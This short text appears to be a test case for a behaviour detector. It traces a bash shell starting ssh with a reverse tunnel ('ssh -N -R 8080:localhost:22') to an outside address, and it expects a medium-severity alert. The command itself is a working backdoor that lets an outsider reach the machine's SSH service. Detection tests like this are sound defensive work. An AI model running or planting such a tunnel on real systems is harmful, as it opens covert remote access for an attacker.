# A way back in.
sh is /bin/bash uid=1000
sh fork ssh
ssh exec /usr/bin/ssh "ssh -N -R 8080:localhost:22 a@203.0.113.9"
expect medium ssh forwards connections
